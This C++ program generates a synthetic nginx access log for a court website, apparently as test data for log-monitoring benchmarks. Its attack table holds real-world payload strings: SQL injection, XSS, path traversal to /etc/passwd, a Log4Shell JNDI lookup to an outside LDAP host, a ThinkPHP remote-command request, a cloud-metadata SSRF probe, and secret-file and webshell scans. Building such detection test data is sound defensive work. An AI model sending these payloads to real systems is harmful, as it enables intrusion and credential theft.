// Writes a realistic access log of an Indonesian court's website (nginx combined format) for
// the logwatch benchmarks: mostly people on phones reading news, case schedules (SIPP) and
// downloading documents, search-engine crawlers, assets, some 404s and redirects — and about
// 1% attack traffic of the kinds seen on real court sites (SQL injection and XSS probes, path
// traversal, sensitive-file and webshell scans, scanner User-Agents, WordPress login brute
// force, Log4Shell strings). Deterministic for a given seed.
//
//   pantau-court-log-gen --lines 1000000 --attack-share 0.01 > access.log
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <string>
#include <vector>

namespace {

// xorshift64*: fast and good enough for picking log fields.
class Rng {
 public:
  explicit Rng(uint64_t seed) : s_(seed ? seed : 1) {}
  uint64_t Next() {
    s_ ^= s_ >> 12;
    s_ ^= s_ << 25;
    s_ ^= s_ >> 27;
    return s_ * 2685821657736338717ull;
  }
  size_t Below(size_t n) { return static_cast<size_t>(Next() % n); }
  double Unit() { return static_cast<double>(Next() >> 11) / 9007199254740992.0; }

 private:
  uint64_t s_;
};

const char* const kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                               "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

const char* const kBrowsers[] = {
    "Mozilla/5.0 (Linux; Android 13; SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 12; Redmi Note 11) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.5993.111 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 11; vivo 1906) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 Edg/119.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 10; SM-G960F) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36",
};
const char* const kBots[] = {
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.199 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "WhatsApp/2.23.20.0 A",
};
const char* const kReferers[] = {
    "-", "-", "-", "https://www.google.com/", "https://www.google.co.id/",
    "https://pn-contoh.go.id/", "https://pn-contoh.go.id/berita", "https://m.facebook.com/",
};
const char* const kPages[] = {
    "/", "/", "/", "/berita", "/berita?page=2", "/berita?id=%d&order=desc",
    "/index.php/berita/berita-terkini/%d-pelantikan-hakim-baru",
    "/index.php?option=com_content&view=article&id=%d&Itemid=101",
    "/jadwal-sidang", "/sipp/list_jadwal_sidang", "/sipp/index.php/detil_perkara?nomor=%d/Pdt.G/2024/PN+Ctn",
    "/layanan/ptsp", "/ppid", "/tentang-pengadilan/profil-pengadilan", "/e-court",
    "/pengumuman?tahun=2024", "/cari?q=putusan+perdata", "/cari?q=select+jadwal+sidang",
    "/wp-admin/admin-ajax.php", "/feed/", "/sitemap.xml", "/robots.txt",
    "/berita/2024/11/%d/sosialisasi-zona-integritas/", "/transparansi/laporan-keuangan",
    "/downloads/sk/SK-KPN-%d-2024.pdf", "/gugatan-sederhana", "/survey?utm_source=wa&utm_medium=share",
};
const char* const kAssets[] = {
    "/wp-content/themes/pengadilan/style.css?ver=6.4.1", "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
    "/wp-content/uploads/2024/11/foto-kegiatan-%d.jpg", "/templates/pn/css/template.css",
    "/images/logo-ma.png", "/favicon.ico", "/media/jui/js/bootstrap.min.js",
    "/wp-content/uploads/2024/10/banner-%d.webp", "/fonts/roboto-v30-latin-regular.woff2",
};
// Attack requests as (request target, user agent or nullptr for a browser UA).
struct Attack {
  const char* method;
  const char* target;
  const char* ua;
  int status;
};
const Attack kAttacks[] = {
    {"GET", "/berita?id=12%27%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x7176,user(),0x7170),NULL--%20-", nullptr, 200},
    {"GET", "/index.php?option=com_content&view=article&id=1%20AND%20SLEEP(5)", nullptr, 200},
    {"GET", "/cari?q=%22%3E%3Cscript%3Ealert(document.cookie)%3C/script%3E", nullptr, 200},
    {"GET", "/index.php?page=../../../../etc/passwd", nullptr, 404},
    {"GET", "/.env", nullptr, 404},
    {"GET", "/.git/config", nullptr, 404},
    {"GET", "/wp-config.php.bak", nullptr, 404},
    {"GET", "/wp-content/uploads/2024/05/wso.php", nullptr, 404},
    {"GET", "/?x=${jndi:ldap://45.83.64.1:1389/Exploit}", "${jndi:ldap://45.83.64.1:1389/a}", 200},
    {"GET", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)", 200},
    {"GET", "/admin/", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", 404},
    {"GET", "/wp-json/wp/v2/users", "WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)", 200},
    {"POST", "/wp-login.php", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", 200},
    {"POST", "/xmlrpc.php", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)", 200},
    {"GET", "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", nullptr, 404},
    {"GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", nullptr, 400},
    {"GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", nullptr, 404},
    {"GET", "/?url=http://169.254.169.254/latest/meta-data/", nullptr, 200},
};

void Append(std::string* out, const char* format, int n) {
  char buffer[512];
  std::snprintf(buffer, sizeof buffer, format, n);
  *out += buffer;
}

}  // namespace

int main(int argc, char** argv) {
  int64_t lines = 1000000;
  double attack_share = 0.01;
  uint64_t seed = 20261125;
  int64_t start_unix = 1764028800;  // 2025-11-25 00:00:00 UTC
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--lines") == 0 && i + 1 < argc) {
      lines = std::atoll(argv[++i]);
    } else if (std::strcmp(argv[i], "--attack-share") == 0 && i + 1 < argc) {
      attack_share = std::atof(argv[++i]);
    } else if (std::strcmp(argv[i], "--seed") == 0 && i + 1 < argc) {
      seed = std::strtoull(argv[++i], nullptr, 10);
    } else {
      std::fprintf(stderr,
                   "usage: pantau-court-log-gen [--lines N] [--attack-share F] [--seed S]\n");
      return 2;
    }
  }
  Rng rng(seed);
  // 20k visitors, mostly Indonesian mobile networks; 300 attacking hosts.
  std::vector<std::string> clients, attackers;
  for (int i = 0; i < 20000; ++i) {
    static const int kPrefixes[][2] = {{114, 124}, {36, 68}, {182, 253}, {180, 241}, {110, 136}, {103, 10}};
    const auto& p = kPrefixes[rng.Below(6)];
    clients.push_back(std::to_string(p[0]) + "." + std::to_string(p[1]) + "." +
                      std::to_string(rng.Below(256)) + "." + std::to_string(1 + rng.Below(254)));
  }
  for (int i = 0; i < 300; ++i) {
    attackers.push_back(std::to_string(45 + rng.Below(150)) + "." + std::to_string(rng.Below(256)) +
                        "." + std::to_string(rng.Below(256)) + "." + std::to_string(1 + rng.Below(254)));
  }
  // The day spread over the lines, busier in office hours.
  const double seconds_per_line = 86400.0 / static_cast<double>(lines > 0 ? lines : 1);
  std::string out;
  out.reserve(1 << 22);
  double t = 0;
  int64_t cached_second = -1;
  char time_text[64] = {0};
  for (int64_t n = 0; n < lines; ++n) {
    t += seconds_per_line * (0.5 + rng.Unit());
    const int64_t now = start_unix + static_cast<int64_t>(t);
    if (now != cached_second) {
      cached_second = now;
      const time_t tt = static_cast<time_t>(now + 7 * 3600);  // WIB
      struct tm tm;
      gmtime_r(&tt, &tm);
      std::snprintf(time_text, sizeof time_text, "%02d/%s/%04d:%02d:%02d:%02d +0700", tm.tm_mday,
                    kMonths[tm.tm_mon], tm.tm_year + 1900, tm.tm_hour, tm.tm_min, tm.tm_sec);
    }
    const bool attack = rng.Unit() < attack_share;
    const char* method = "GET";
    std::string target;
    const char* ua;
    const char* referer = kReferers[rng.Below(sizeof kReferers / sizeof *kReferers)];
    int status = 200;
    int64_t bytes;
    const std::string* client;
    if (attack) {
      const Attack& a = kAttacks[rng.Below(sizeof kAttacks / sizeof *kAttacks)];
      method = a.method;
      target = a.target;
      ua = a.ua != nullptr ? a.ua : kBrowsers[rng.Below(sizeof kBrowsers / sizeof *kBrowsers)];
      status = a.status;
      bytes = 200 + static_cast<int64_t>(rng.Below(5000));
      // Attacks come in campaigns: a few hosts at a time, changing over the day.
      client = &attackers[(static_cast<size_t>(n / 20000) * 7 + rng.Below(4)) % attackers.size()];
      referer = "-";
    } else {
      const bool bot = rng.Unit() < 0.15;
      ua = bot ? kBots[rng.Below(sizeof kBots / sizeof *kBots)]
               : kBrowsers[rng.Below(sizeof kBrowsers / sizeof *kBrowsers)];
      client = &clients[rng.Below(clients.size())];
      const double kind = rng.Unit();
      if (kind < 0.45) {
        Append(&target, kPages[rng.Below(sizeof kPages / sizeof *kPages)],
               1 + static_cast<int>(rng.Below(5000)));
        bytes = 15000 + static_cast<int64_t>(rng.Below(60000));
      } else {
        Append(&target, kAssets[rng.Below(sizeof kAssets / sizeof *kAssets)],
               1 + static_cast<int>(rng.Below(400)));
        bytes = 2000 + static_cast<int64_t>(rng.Below(300000));
      }
      const double s = rng.Unit();
      if (s < 0.04) {
        status = 404;
        bytes = 548;
      } else if (s < 0.10) {
        status = 304;
        bytes = 0;
      } else if (s < 0.13) {
        status = 301;
        bytes = 162;
      } else if (s < 0.132) {
        status = 502;
        bytes = 166;
      }
    }
    out += *client;
    out += " - - [";
    out += time_text;
    out += "] \"";
    out += method;
    out += ' ';
    out += target;
    out += " HTTP/1.1\" ";
    out += std::to_string(status);
    out += ' ';
    out += std::to_string(bytes);
    out += " \"";
    out += referer;
    out += "\" \"";
    out += ua;
    out += "\"\n";
    if (out.size() > (1 << 22) - 4096) {
      std::fwrite(out.data(), 1, out.size(), stdout);
      out.clear();
    }
  }
  std::fwrite(out.data(), 1, out.size(), stdout);
  return 0;
}
